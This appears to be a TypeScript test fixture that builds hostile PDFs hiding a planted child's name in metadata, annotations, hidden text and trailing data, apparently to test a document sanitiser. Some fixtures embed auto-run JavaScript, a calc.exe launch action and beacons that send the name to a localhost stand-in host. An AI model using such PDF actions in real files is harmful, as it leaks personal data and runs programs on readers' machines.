import {
  appended,
  buildPdf,
  PLANTED,
  PLANTED_HEX,
  PLANTED_OCTAL,
  PLANTED_UTF16,
  packed,
  SHOWN,
  stream,
} from "./build-pdf";

/**
 * PDFs that hold a child's name where a list of bad things does not look, or that are made to break whoever opens
 * them. `shows`: the name is drawn on the page or readable in it, so that comparing its words has to find it.
 */
export type Hostile = { name: string; file: () => Buffer; shows?: true };

const nested = (inner: string, depth: number) => `${"(".repeat(depth)}${inner}${")".repeat(depth)}`;
const xmp = (inner: string) => stream("/Type /Metadata /Subtype /XML", inner);
const dublin = `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>${PLANTED}</dc:creator></rdf:Description></rdf:RDF>`;

const properties: Hostile[] = [
  {
    name: "author by reference",
    file: () =>
      buildPdf({ trailer: "/Info 10 0 R", objects: { 10: "<< /Author 11 0 R >>", 11: `(${PLANTED})` } }),
  },
  {
    name: "author in nested brackets",
    file: () =>
      buildPdf({
        trailer: "/Info 10 0 R",
        objects: { 10: `<< /Author (report (by ${nested(PLANTED, 3)})) >>` },
      }),
  },
  {
    name: "author under an escaped key",
    file: () => buildPdf({ trailer: "/Info 10 0 R", objects: { 10: `<< /Aut#68or (${PLANTED}) >>` } }),
  },
  {
    name: "author with escaped letters",
    file: () => buildPdf({ trailer: "/Info 10 0 R", objects: { 10: `<< /Author (${PLANTED_OCTAL}) >>` } }),
  },
  {
    name: "author in UTF-16",
    file: () => buildPdf({ trailer: "/Info 10 0 R", objects: { 10: `<< /Author <${PLANTED_UTF16}> >>` } }),
  },
  {
    name: "Info keys of its own",
    file: () =>
      buildPdf({ trailer: "/Info 10 0 R", objects: { 10: `<< /Child (${PLANTED}) /NHS (943 476 5919) >>` } }),
  },
  {
    name: "XMP without its wrapper",
    file: () => buildPdf({ catalog: "/Metadata 10 0 R", objects: { 10: xmp(dublin) } }),
  },
  {
    name: "XMP in its wrapper, packed",
    file: () =>
      buildPdf({
        catalog: "/Metadata 10 0 R",
        objects: { 10: packed("/Type /Metadata /Subtype /XML", `<x:xmpmeta>${dublin}</x:xmpmeta>`) },
      }),
  },
  {
    name: "XMP of the page",
    file: () => buildPdf({ page: "/Metadata 10 0 R", objects: { 10: xmp(dublin) } }),
  },
  {
    name: "piece info of another program",
    file: () =>
      buildPdf({ page: `/PieceInfo << /Word << /Private (${PLANTED}) /LastModified (D:2026) >> >>` }),
  },
];

const catalogue: Hostile[] = [
  {
    name: "alt text in the structure tree",
    file: () =>
      buildPdf({
        catalog: "/StructTreeRoot 10 0 R /MarkInfo << /Marked true >>",
        objects: {
          10: "<< /Type /StructTreeRoot /K 11 0 R >>",
          11: `<< /Type /StructElem /S /Figure /Alt (${PLANTED}) /ActualText (${PLANTED}) /P 10 0 R >>`,
        },
      }),
  },
  {
    name: "named destinations",
    file: () =>
      buildPdf({
        catalog: "/Names << /Dests 10 0 R >> /Dests 11 0 R",
        objects: {
          10: `<< /Names [(${PLANTED}) [3 0 R /Fit]] >>`,
          11: `<< /${PLANTED.replace(" ", "#20")} [3 0 R /Fit] >>`,
        },
      }),
  },
  {
    name: "bookmarks with escaped names",
    file: () =>
      buildPdf({
        catalog: "/Out#6cines 10 0 R",
        objects: {
          10: "<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>",
          11: `<< /T#69tle (${PLANTED_OCTAL}) /Parent 10 0 R /Dest [3 0 R /Fit] >>`,
        },
      }),
  },
  {
    name: "attached file with escaped names",
    file: () =>
      buildPdf({
        catalog: "/Names << /Embedded#46iles << /Names [(a.txt) 10 0 R] >> >>",
        objects: {
          10: `<< /Type /F#69lespec /F (${PLANTED}.txt) /EF << /F 11 0 R >> >>`,
          11: packed("/Type /EmbeddedFile", `The child is ${PLANTED}`),
        },
      }),
  },
  {
    name: "JavaScript when it opens",
    file: () =>
      buildPdf({
        catalog: "/OpenAction << /S /JavaScript /JS 10 0 R >>",
        objects: { 10: packed("", `app.alert("${PLANTED}"); this.submitForm("http://127.0.0.1:9/")`) },
      }),
  },
  {
    name: "beacons: URI, launch, remote and submit actions",
    file: () =>
      buildPdf({
        catalog: `/AA << /WC << /S /URI /URI (http://127.0.0.1:9/${PLANTED.replace(" ", "")}) >> >>`,
        page: `/AA << /O << /S /Launch /F (calc.exe) >> /C << /S /GoToR /F (http://127.0.0.1:9/x) >> >>`,
      }),
  },
  {
    name: "page labels and thread information",
    file: () =>
      buildPdf({
        catalog: `/PageLabels << /Nums [0 << /P (${PLANTED}) >>] >> /Threads [10 0 R]`,
        objects: { 10: `<< /Type /Thread /I << /Title (${PLANTED}) >> >>` },
      }),
  },
];

const annotation = (body: string) =>
  buildPdf({
    page: "/Annots [10 0 R]",
    objects: { 10: `<< /Type /Annot /Rect [72 600 300 640] ${body} >>` },
  });

const annotations: Hostile[] = [
  {
    name: "comment with an escaped name",
    file: () => annotation(`/Subtype /Text /Cont#65nts (${PLANTED}) /T (${PLANTED})`),
  },
  {
    name: "comment in rich text, with its pop-up",
    file: () => annotation(`/Subtype /Text /RC (<body>${PLANTED}</body>) /Subj (${PLANTED}) /Popup 11 0 R`),
  },
  {
    name: "link that calls home",
    file: () => annotation(`/Subtype /Link /A << /S /URI /URI (http://127.0.0.1:9/?${PLANTED_HEX}) >>`),
  },
  {
    name: "attached file as a comment",
    file: () => annotation(`/Subtype /FileAttachment /FS << /F (${PLANTED}.txt) /EF << /F 4 0 R >> >>`),
  },
  {
    name: "sound, movie and screen",
    file: () => annotation(`/Subtype /Movie /T (${PLANTED}) /Movie << /F (http://127.0.0.1:9/x.mov) >>`),
  },
  {
    name: "form field without an appearance",
    file: () =>
      buildPdf({
        catalog:
          "/AcroForm << /Fields [10 0 R] /NeedAppearances true /DA (/F1 12 Tf) /DR << /Font << /F1 5 0 R >> >> >>",
        page: "/Annots [10 0 R]",
        objects: {
          10: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (child) /TU (${PLANTED}) /V (${PLANTED}) /DV (${PLANTED}) /Rect [72 500 300 520] /F 2 /P 3 0 R >>`,
        },
      }),
  },
  {
    name: "form in XFA",
    file: () =>
      buildPdf({
        catalog: "/AcroForm << /Fields [] /XFA [(datasets) 10 0 R] >>",
        objects: { 10: packed("", `<xfa:data><child>${PLANTED}</child></xfa:data>`) },
      }),
  },
];

const pages: Hostile[] = [
  {
    name: "white words",
    file: () => buildPdf({ content: `${SHOWN} 1 1 1 rg BT /F1 14 Tf 72 600 Td (${PLANTED}) Tj ET` }),
  },
  {
    name: "words in a mode that draws nothing",
    file: () => buildPdf({ content: `${SHOWN} BT 3 Tr /F1 14 Tf 72 600 Td (${PLANTED}) Tj ET` }),
  },
  {
    name: "words beside the page",
    file: () => buildPdf({ content: `${SHOWN} BT /F1 14 Tf 2000 600 Td (${PLANTED}) Tj ET` }),
  },
  {
    name: "words outside the crop box",
    file: () =>
      buildPdf({
        page: "/CropBox [0 300 595 842]",
        content: `${SHOWN} BT /F1 14 Tf 72 100 Td (${PLANTED}) Tj ET`,
      }),
  },
  {
    name: "words under a black box",
    file: () =>
      buildPdf({ content: `${SHOWN} BT /F1 14 Tf 72 600 Td (${PLANTED}) Tj ET 0 0 0 rg 60 590 300 30 re f` }),
  },
  {
    name: "words in a layer that is switched off",
    file: () =>
      buildPdf({
        catalog: "/OCProperties << /OCGs [10 0 R] /D << /OFF [10 0 R] >> >>",
        resources: "/Properties << /L1 10 0 R >>",
        content: `${SHOWN} /OC /L1 BDC BT /F1 14 Tf 72 600 Td (${PLANTED}) Tj ET EMC`,
        objects: { 10: `<< /Type /OCG /Name (${PLANTED}) >>` },
      }),
  },
  {
    name: "actual text of a marked stretch",
    file: () =>
      buildPdf({
        content: `/Span << /ActualText (${PLANTED}) /E (${PLANTED}) /Alt (${PLANTED}) >> BDC ${SHOWN} EMC`,
      }),
  },
  {
    name: "comments between the operators",
    file: () => buildPdf({ content: `% ${PLANTED}\n${SHOWN}\n% ${PLANTED}` }),
  },
  {
    name: "words that nobody draws, in an unused object",
    file: () => buildPdf({ objects: { 10: packed("", `(${PLANTED}) Tj`), 11: `(${PLANTED})` } }),
  },
  {
    name: "an earlier edition, overwritten by a later one",
    file: () =>
      appended(
        buildPdf({ content: `BT /F1 14 Tf 72 700 Td (${PLANTED}) Tj ET` }),
        4,
        stream("", SHOWN).toString("latin1"),
      ),
  },
  {
    name: "a second file behind the end",
    file: () => Buffer.concat([buildPdf(), Buffer.from(`\n%%EOF ${PLANTED} PK\u0003\u0004`, "latin1")]),
  },
  {
    name: "a name in an inline picture's own data",
    file: () =>
      buildPdf({
        content: `${SHOWN} q 10 0 0 10 500 20 cm BI /W 8 /H 2 /BPC 8 /CS /G ID ${PLANTED.slice(0, 16)} EI Q`,
      }),
  },
  {
    name: "the name, drawn on the page",
    shows: true,
    file: () => buildPdf({ content: `BT /F1 14 Tf 72 700 Td (${PLANTED}) Tj ET` }),
  },
  {
    name: "the name, one letter at a time and out of order",
    shows: true,
    file: () => {
      const letters = [...PLANTED].map(
        (letter, at) => `BT /F1 14 Tf ${72 + at * 11} 700 Td (${letter}) Tj ET`,
      );
      return buildPdf({ content: letters.reverse().join(" ") });
    },
  },
];

export const HOSTILE_PDFS: readonly Hostile[] = [...properties, ...catalogue, ...annotations, ...pages];
